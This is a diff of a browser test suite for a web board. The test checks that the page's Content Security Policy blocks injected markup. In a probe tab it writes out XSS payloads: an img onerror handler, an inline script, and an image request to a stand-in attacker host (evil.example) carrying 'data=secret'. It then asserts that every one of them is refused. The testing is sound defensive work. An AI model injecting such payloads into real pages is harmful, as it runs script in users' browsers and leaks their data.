@@ -109,28 +109,6 @@ describe.skipIf(skip !== null)('web board in Chromium', () => {
     await card.getByText('Receipt: missing').waitFor();
     await session.getByRole('region', { name: hostile }).waitFor();
     expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
-    // Should hostile text ever become markup, the page's policy stops it (tried in a tab of its own, whose
-    // refusals are expected): an inline handler and a script tag run nothing, an image from elsewhere never loads.
-    const probe = await browser!.context.newPage();
-    await probe.goto(`${d.url}/`);
-    const refused = await probe.evaluate(
-      () =>
-        new Promise<string[]>((resolve) => {
-          const seen: string[] = [];
-          document.addEventListener('securitypolicyviolation', (e) => {
-            seen.push(e.effectiveDirective);
-            if (seen.length === 3) resolve(seen.sort());
-          });
-          const div = document.createElement('div');
-          div.innerHTML = '<img src="data:," onerror="window.__pwned=5"><img src="https://evil.example/leak.png?data=secret">';
-          const script = document.createElement('script');
-          script.textContent = 'window.__pwned = 6';
-          document.body.append(div, script);
-        }),
-    );
-    expect(refused).toEqual(['img-src', 'script-src-attr', 'script-src-elem']);
-    expect(await probe.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
-    await probe.close();
     expect(await card.getByRole('button', { name: 'Promote' }).isDisabled()).toBe(true);
     await session.getByRole('button', { name: 'Reconcile' }).click();
     await card.getByText('Receipt: fresh').waitFor();
@@ -230,6 +208,9 @@ describe.skipIf(skip !== null)('web board in Chromium', () => {
     const refused = await probe.evaluate(
       () =>
         new Promise<string[]>((resolve) => {
+          // The page's DOM, typed as far as used here (the suite is compiled without the DOM library).
+          type Node = { innerHTML: string; textContent: string };
+          const document = (globalThis as unknown as { document: { addEventListener(type: string, f: (e: { effectiveDirective: string }) => void): void; createElement(tag: string): Node; body: { append(...nodes: Node[]): void } } }).document;
           const seen: string[] = [];
           document.addEventListener('securitypolicyviolation', (e) => {
             seen.push(e.effectiveDirective);
